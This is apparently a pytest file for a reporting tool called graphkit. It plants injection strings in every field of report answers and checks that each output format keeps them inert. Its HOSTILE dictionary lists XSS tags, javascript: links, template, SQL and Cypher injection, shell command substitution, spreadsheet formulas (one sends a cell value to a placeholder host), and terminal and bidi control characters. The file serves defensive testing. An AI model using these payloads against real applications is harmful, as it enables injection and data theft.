"""A hostile string in every field of an answer, in every form: nothing acts, nothing breaks out of its place."""

from __future__ import annotations

import csv
import io
import json
import unicodedata
import xml.etree.ElementTree as ET
from collections import Counter
from enum import Enum
from functools import cache
from html.parser import HTMLParser
from typing import Any

import pytest
from msgspec import Struct
from msgspec.structs import replace

from graphkit.reports import names, report
from graphkit.reports.as_json import who_has_json, why_json
from graphkit.reports.interface import ReportOptions
from graphkit.reports.table import who_has_table, why_table
from tests.effort import share
from tests.unit.reports import answers

HOSTILE = {
    "a script": "</script><script>alert(1)</script>",
    "an image": "\"'><img src=x onerror=alert(1)>",
    "a style": "</style><svg/onload=alert(1)>",
    "a comment": "--><!--<b>",
    "CDATA": "]]><![CDATA[<x>",
    "an address": 'javascript:alert(1)//https://x/"><a href=',
    "a template": "{{7*7}}${7*7}<%= 7*7 %>",
    "a formula": '=HYPERLINK("http://x/?"&A1,"a")',
    "a formula by a tab": "\t=cmd|' /C calc'!A0",
    "formulas": "+1-1@SUM(1)\r=1+1",
    "Cypher": "' }) DETACH DELETE n //",
    "SQL": "'; DROP TABLE documents; --",
    "a shell": "`touch x`$(touch x);touch x|touch x\ntouch x",
    "markdown": "](http://x)[a](javascript:alert(1))\n# x\n|a|b|\n```",
    "mermaid": '"]; click a "javascript:alert(1)"; %%{init: {}}%%',
    "rich": "[bold red]x[/][link=http://x]y[/link]",
    "a terminal": "\x1b[2J\x1b]0;x\x07\x1b]8;;http://x\x1b\\x\x9b31m",
    "controls": "".join(map(chr, (*range(0x20), *range(0x7F, 0xA0)))),
    "directions": "\u202aa\u202bb\u202cc\u202dd\u202ee\u2066f\u2067g\u2068h\u2069i\u200ej\u200fk\u061cl",
    "what is not seen": "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh\u115fi\u3164j\U000e0041k\ufe0fl",
    "ends of lines": "a\u0085b\u2028c\u2029d\x0be\x0cf",
    "NUL": "a\0b",
    "half a pair": "a\ud800b\udfffc\udc80d",
    "no characters": "\ufffe\uffff\U0001ffff\ufdd0",
    "combining": "a" + "\u0301" * 200,
    "a long one": "x" * 10_000,
    "long with ends": "y \u202e" * share(2_000),
}  # fmt: skip
ANSWERS = {"blast": answers.blast, "several": answers.several, "hostile": answers.hostile}
_WITHIN_LINES = frozenset("\n\r\t")


def planted(value: Any, text: str, count: Counter[str], *, within: str = "") -> Any:
    """Return a value of an answer with a text in the place of, or behind, every text of it that a source may say."""
    if isinstance(value, str) and not isinstance(value, Enum):
        if within in _OWN or not value:
            return value
        count[within] += 1
        return f"{text}{count.total()}" if within.rpartition(".")[2] in _NAMES else f"{value} {text}"
    if isinstance(value, tuple | list | frozenset) and not hasattr(value, "_fields"):
        return type(value)(planted(one, text, count, within=within) for one in value)
    if not isinstance(value, Struct):
        return value
    shape = type(value).__name__
    if shape in {"Environment", "Summary", "Moment", "Provenance"}:
        return value
    changed = {
        name: planted(getattr(value, name), text, count, within=f"{shape}.{name}") for name in value.__struct_fields__
    }
    return replace(value, **changed)


_OWN = {
    "Slot.incident",
    "Window.incident",
    "Window.reading",
    "BuildVerdict.incident",
    "BuildVerdict.basis",
    "Clearance.incident",
    "ServiceVerdict.basis",
    "ServiceVerdict.incidents",
    "CompanyRow.origin_tier",
    "Instruction.incident",
    "HashedFile.incident",
    "DocumentName.sha256",
    "Take.release",
    "PackageRow.package",
    "Asked.id",
    "Blast.resolver",
    "Blast.exposing",
    "CompromisedRelease.package",
    "InstallTree.incident",
    "InstallTree.resolver",
}
"""Texts that graphkit makes itself, or reads by a type that lets no such text in."""
_NAMES = {"service", "services", "company", "via", "supplier", "external"}


_OF_LIBRARY = "\u200b\x85\u180e"
"""What the graph library in the page compares with."""


def acts(text: str) -> set[str]:
    """Return the characters of a text that move the cursor, hide, reorder, or are none."""
    return {
        one
        for one in text
        if one not in _WITHIN_LINES and (unicodedata.category(one) in {"Cc", "Cf", "Cs", "Zl", "Zp"} or one == "\u0085")
    }


class Tags(HTMLParser):
    """Counts the tags of a page, and notes attributes that act."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: Counter[str] = Counter()
        self.odd: list[tuple[str, str | None]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.odd += [one for one in attrs if one[0].startswith("on") or "javascript:" in (one[1] or "")]


def columns(line: str) -> int:
    """Return how wide a line is: marks stand on the character before them."""
    return sum(unicodedata.category(one) not in {"Mn", "Me"} for one in line)


@cache
def _scripts() -> int:
    """Return how many scripts a page has of its own."""
    return Tags(report("html").render(answers.nothing(), ReportOptions())).tags["script"]


def check(form: str, text: str) -> None:
    text.encode()
    found = acts(text.replace(_OF_LIBRARY, "") if form == "html" else text)
    assert not found, (form, sorted(map(ascii, found)))
    if form in {"json", "sarif", "openvex", "cyclonedx-vex"}:
        json.loads(text)
    elif form == "graphml":
        ET.fromstring(text)
    elif form == "csv":
        for row in csv.reader(io.StringIO(text)):
            assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    elif form == "html":
        tags = Tags(text)
        assert not tags.odd
        assert not tags.tags["img"]
        assert tags.tags["script"] == _scripts()
    elif form == "table":
        # A command is on one line, to be copied.
        assert max(columns(line) for line in text.splitlines() if "graphkit " not in line) <= 80


@pytest.mark.parametrize("made", ANSWERS)
@pytest.mark.parametrize("name", HOSTILE)
def test_no_form_lets_a_string_of_any_field_act(name: str, made: str) -> None:
    count: Counter[str] = Counter()
    answer = planted(ANSWERS[made](), HOSTILE[name], count)
    assert len(count) > 25, count
    for form in names():
        check(form, report(form).render(answer, ReportOptions(long=True)))
    check("table", report("table").render(answer, ReportOptions()))


@pytest.mark.parametrize("name", HOSTILE)
def test_neither_do_the_other_answers(name: str) -> None:
    for made in (answers.why, answers.cleared, answers.trees):
        answer = planted(made(), HOSTILE[name], Counter())
        check("json", why_json(answer, clearance=True))
        check("table", why_table(answer, clearance=True))
    holds = planted(answers.who_has(), HOSTILE[name], Counter())
    check("json", "".join(who_has_json(holds)))
    check("table", who_has_table(holds))
